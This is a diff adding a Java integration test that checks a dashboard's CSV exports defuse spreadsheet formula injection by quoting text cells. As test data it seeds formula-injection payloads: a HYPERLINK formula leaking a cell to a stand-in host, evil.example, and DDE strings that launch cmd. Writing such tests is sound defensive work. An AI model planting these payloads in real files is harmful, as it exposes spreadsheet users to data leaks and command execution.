@@ -3,6 +3,7 @@ package nl.omzien.dashboard;
 import nl.omzien.base.InvalidInputException;
 import nl.omzien.certificates.CertificateService;
 import nl.omzien.certificates.PdfReading;
+import nl.omzien.dashboard.internal.TableExports;
 import nl.omzien.test.IntegrationTest;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
@@ -27,7 +28,10 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.Locale;
+import java.util.Set;
 
+import static nl.omzien.db.Tables.DASHBOARD_COMMENT;
+import static nl.omzien.db.Tables.ORGANISATION;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
@@ -88,6 +92,32 @@ class DashboardExportsTest extends IntegrationTest {
         assertThat(kapsalon.get("Omzien-partner")).isEqualTo("Ja");
         assertThat(parse(dashboard.csv(year2025, "comments", NL, false))).extracting(r -> r.get("Opmerking"))
                 .containsExactly("Top avond", "", "Heel leerzaam");
+    }
+
+    @Test
+    void csvTextsThatASpreadsheetWouldRunAsAFormulaStartWithAQuoteAndStayReadable() throws Exception {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik hier\")";
+        String command = "+cmd|' /C calc'!A0";
+        String sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+        db.update(ORGANISATION).set(ORGANISATION.NAME, hyperlink).where(ORGANISATION.ID.eq(f.organisations.get("A"))).execute();
+        db.update(ORGANISATION).set(ORGANISATION.NAME, command).where(ORGANISATION.ID.eq(f.organisations.get("B"))).execute();
+        db.update(ORGANISATION).set(ORGANISATION.NAME, sum).where(ORGANISATION.ID.eq(f.organisations.get("C"))).execute();
+        db.update(DASHBOARD_COMMENT).set(DASHBOARD_COMMENT.COMMENT, "-2+3+cmd|' /C calc'!A0")
+                .set(DASHBOARD_COMMENT.DO_DIFFERENTLY, "\t=1+1").where(DASHBOARD_COMMENT.COMMENT.eq("Top avond")).execute();
+        db.update(DASHBOARD_COMMENT).set(DASHBOARD_COMMENT.COMMENT, "\r=1+1").where(DASHBOARD_COMMENT.COMMENT.eq("Heel leerzaam")).execute();
+
+        List<CSVRecord> organisations = parse(dashboard.csv(year2025, "organisations", NL, false));
+        assertThat(organisations).extracting(r -> r.get("Organisatie"))
+                .containsExactlyInAnyOrder("'" + hyperlink, "'" + command, "'" + sum);
+        CSVRecord formerKapsalon = organisations.stream().filter(r -> r.get("Organisatie").equals("'" + hyperlink)).findFirst().orElseThrow();
+        assertThat(formerKapsalon.get("Getraind in periode")).as("numbers stay numbers").isEqualTo("2");
+        List<CSVRecord> comments = parse(dashboard.csv(year2025, "comments", NL, false));
+        assertThat(comments).extracting(r -> r.get("Opmerking")).containsExactly("'-2+3+cmd|' /C calc'!A0", "", "'\r=1+1");
+        assertThat(comments.getFirst().toList()).contains("'\t=1+1");
+        // Only texts change: a negative number stays a number, a text that starts with a minus gets the quote.
+        assertThat(TableExports.csv(new DashboardTable("t", "T", List.of("Tekst", "Getal", "Breuk"),
+                List.of(List.of("-", -3L, -1.5), List.of("- min", 0L, 2.0), List.of("\u0000=1+1", 1L, 0.5)), Set.of())))
+                .asString(StandardCharsets.UTF_8).contains("'-;-3;-1.5", "'- min;0;2.0", "'\u0000=1+1;1;0.5");
     }
 
     @Test
